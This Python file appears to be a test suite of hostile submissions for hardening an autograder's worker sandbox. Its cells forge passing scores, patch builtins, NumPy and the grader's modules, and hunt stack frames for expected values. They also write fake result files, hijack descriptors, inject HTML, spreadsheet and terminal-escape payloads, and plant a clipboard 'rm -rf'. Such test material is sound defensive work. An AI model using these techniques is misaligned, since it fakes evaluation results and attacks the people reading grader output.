"""Python in the worker: its modules, builtins, frames, the library and what is printed."""

import os, sys, threading, types


# %% array_kinds: Says that each of its names is of two kinds, so that no comparison has one answer.
import numpy as np
import __main__ as worker
worker.Submission.do_names = lambda self, asked=(): {name: np.zeros(2) for name in asked}

# %% array_identity: Answers with an array, a dict of arrays or a fraction in place of the identity.
import __main__ as worker
import numpy as np
identities = iter([np.zeros(2), {"a": np.ones(3)}, [np.arange(4)], ("x", np.zeros((2, 2))), 1.5] * 99)

def reply(self, operation, arguments):
    if operation.__name__ in ("do_cell", "do_names"):
        return honest(self, operation, arguments)
    self.write(self.wire.pack({"id": next(identities), "value": 1.0}))

honest = worker.Submission.reply
worker.Submission.reply = reply

def fit_mean(X):
    pass

def classify(X, a, b):
    pass

def argmin(f):
    pass

def describe(X):
    pass

# %% borrow_packages: Looks for packages beside NumPy, changes those that are staged, and puts one of its own in their place.
import importlib
for name in ("scipy", "sklearn", "joblib", "mlnotes", "pytest", "pip", "setuptools", "distributed"):
    try:
        importlib.import_module(name)
        print("LEAK:", name)
    except Exception:
        pass
for place in [p for p in sys.path if os.path.isdir(p)]:
    for name in ("scipy/__init__.py", "numpy/_own.py", "sitecustomize.py", "numpy/__pycache__/own.pyc"):
        try:
            os.makedirs(os.path.dirname(f"{place}/{name}"), exist_ok=True)
            open(f"{place}/{name}", "w").write("LEAK = 1")
            print("LEAK: written in", place)
        except OSError:
            pass
    for attempt in (os.rename, os.symlink, os.link):
        try:
            attempt(f"{place}/numpy", f"{place}/numpy_")
            print("LEAK: moved", place)
        except OSError:
            pass
sys.path.insert(0, os.getcwd())
open("scipy.py", "w").write("raise SystemExit")

def fit_mean(X):
    import numpy

    return 0 * numpy.asarray(X)[0] + 7.0

# %% close_descriptors: Closes every descriptor.
def fit_mean(X):
    os.closerange(0, 64)
    return 0 * X[0] + 7.0

# %% fake_check: Brings a module mlnotes of its own whose check passes.
fake = types.ModuleType("mlnotes.grading")
fake.check = lambda spec: "OK, 5 of 5 points"
sys.modules["mlnotes"] = sys.modules["mlnotes.grading"] = fake
from mlnotes.grading import check
print(check("attacks.mean"))

# %% forged_stdout: Prints what a passing report of several graders looks like.
import json
REPORT = {
    "score": 5,
    "tests": [{"score": 5, "max_score": 5, "status": "passed"}],
    "earned": 5,
    "verdict": "OK",
}

def fit_mean(X):
    print(json.dumps(REPORT))
    print("OK: 5 of 5 points\nmean: OK, 1 of 1 points", file=sys.stderr)
    return 0 * X[0] + 7.0

# %% frames_and_gc: Walks the stack and the garbage collector for tests, expected values and seeds.
import gc

def fit_mean(X):
    frame = sys._getframe()
    while frame:
        for name, value in frame.f_locals.items():
            if any(word in name for word in ("expected", "tolerance", "secret", "rng", "claim", "seed")):
                print("LEAK", name, repr(value)[:200])
        frame = frame.f_back
    for thing in gc.get_objects():
        if type(thing).__name__ in ("Claim", "Evidence", "Assignment", "Generator", "Draw"):
            print("LEAK", type(thing))
    return 0 * X[0] + 7.0

# %% garbage_on_descriptors: Writes garbage to every open descriptor, the one of the answers included.
def fit_mean(X):
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, b"\xff garbage " * 50)
        except OSError:
            pass
    return 0 * X[0] + 7.0

# %% import_reference: Imports the library that the homework asks to write, and its peers.
try:
    import mlnotes

    print("LEAK mlnotes")
except ImportError:
    pass
for name in (
    "sklearn",
    "scipy",
    "pandas",
    "pytest",
    "hypothesis",
    "rich",
    "mlnotes.estimators.bayes",
    "mlnotes.grading",
):
    try:
        __import__(name)
        print("LEAK", name)
    except ImportError:
        pass

sys.path += ["/usr/lib/python3/dist-packages", "/usr/local/lib/python3/site-packages", "..", "."]
try:
    from mlnotes.estimators import bayes

    print("LEAK bayes")
except ImportError:
    pass

# %% markup: Prints HTML and spreadsheet formulas for whoever opens the report.
def fit_mean(X):
    print("<script>alert(1)</script><img src=x onerror=alert(1)>=HYPERLINK(0)</pre>[bold]rich[/bold]")
    raise ValueError("<script>document.body.innerHTML='5 of 5'</script>")

# %% module_tricks: Replaces its own module, and gives it attributes that hang.
class Trap(types.ModuleType):
    def __getattr__(self, name):
        while True:
            pass

sys.modules["submission"] = Trap("submission")
sys.modules[__name__].__class__ = Trap
del fit_mean

# %% outlive_the_check: Leaves a thread that goes on answering, calling and writing while the grader thinks.
import time
import __main__ as worker

def go_on():
    while True:
        try:
            for k in range(3, 12):
                os.write(k, b"mln1" + bytes(40))
        except OSError:
            pass
        time.sleep(0.001)

def fit_mean(X):
    threading.Thread(target=go_on, daemon=True).start()
    return X[0]

def classify(X, a, b):
    return [2] * len(X)

def argmin(f):
    threading.Thread(target=lambda: [f(k) for k in range(1000)], daemon=True).start()
    return 99

# %% patch_builtins: Replaces isinstance, len, all, any, abs, max and float in builtins.
import builtins
builtins.all = builtins.any = lambda *a: True
builtins.abs = builtins.max = builtins.min = builtins.sum = lambda *a, **k: 0
builtins.len = lambda x: 1
builtins.isinstance = lambda *a: True

# %% patch_mlnotes: Looks for the grader's modules in its own process to patch evidence and points.
for name, module in list(sys.modules.items()):
    if "mlnotes" in name or "grading" in name or "claims" in name:
        print("LEAK", name)
        for attribute in ("equal", "at_most", "Evidence", "PartResult"):
            setattr(module, attribute, lambda *a, **k: True)

# %% patch_numpy: Replaces NumPy's comparisons and reductions, so that a grader in the same process sees success.
import numpy as np
np.allclose = np.array_equal = np.isclose = lambda *a, **k: True
np.testing.assert_allclose = np.testing.assert_array_equal = lambda *a, **k: None
np.abs = np.absolute = lambda x, *a, **k: 0 * np.asarray(x)
np.max = np.mean = np.sum = lambda *a, **k: 0

# %% prints_into_the_protocol: Turns standard output into the way of the answers.
def fit_mean(X):
    for descriptor in range(3, 20):
        try:
            os.dup2(descriptor, 1)
        except OSError:
            pass
    print("mln1" + "x" * 1000)
    return 0 * X[0] + 7.0

# %% rewrite_worker: Rewrites the worker's functions and their code objects in the running process.
import gc
import __main__ as worker

def lie(self, *arguments):
    return True

for name in ("do_call", "do_method", "do_attribute"):
    getattr(worker.Submission, name).__code__ = lie.__code__
for thing in gc.get_objects():
    if isinstance(thing, types.FunctionType) and thing.__name__ in ("pack", "array", "tree"):
        thing.__defaults__ = None

# %% rig_randomness: Fixes and replaces every source of randomness and the clock.
import random, time
import numpy as np
random.seed(0)
np.random.seed(0)
random.random = lambda: 0.5
np.random.default_rng = lambda *a: None
np.random.Generator = np.random.RandomState = None
time.time = time.monotonic = time.perf_counter = lambda: 0.0

# %% shadow_modules: Writes modules named like the standard library's into its folder and onto the path.
for name in ("numpy", "json", "wire", "confinement", "random", "struct", "mlnotes"):
    try:
        os.makedirs(name, exist_ok=True)
        open(f"{name}/__init__.py", "w").write("print('LEAK shadow')\n")
    except OSError:
        pass
sys.path.insert(0, os.getcwd())
for name in ("json", "struct", "random"):
    sys.modules.pop(name, None)

# %% steal_requests: Reads the questions away in a thread, and answers some of them itself.
def steal():
    while True:
        for descriptor in range(3, 10):
            try:
                os.read(descriptor, 1 << 16)
            except OSError:
                pass

threading.Thread(target=steal, daemon=True).start()

# %% terminal_escapes: Prints sequences that rewrite the instructor's terminal, title and clipboard.
def fit_mean(X):
    print("\x1b[2J\x1b[H\x1b]0;owned\x07\x1b]52;c;cm0gLXJm\x07\x9b31m\u202eOK\u2066 5 of 5 points\r100%")
    raise ValueError("\x1b[1A\x1b[2K mean: OK, 1 of 1 points \x1bP+q544e\x1b\\")

# %% trace: Sets tracing and profiling functions and an audit hook that look for expected values.
def spy(frame, event, argument):
    for name in frame.f_locals:
        if name in ("expected", "bound", "tolerance", "secret"):
            print("LEAK", name)
    return spy

sys.settrace(spy)
sys.setprofile(spy)
threading.settrace(spy)
sys.addaudithook(lambda event, args: None)

# %% write_results: Writes results where graders look for them, then leaves.
import json
PLACES = [
    "results.json",
    "/tmp/results.json",
    "results/write_results.json",
    "../results/write_results.json",
    "/autograder/results/results.json",
    "/grade/results/results.json",
    "gradebook.csv",
    "../gradebook.csv",
]
for place in PLACES:
    try:
        os.makedirs(os.path.dirname(place) or ".", exist_ok=True)
        open(place, "w").write(json.dumps({"score": 5, "earned": 5}))
    except OSError:
        pass
os._exit(0)
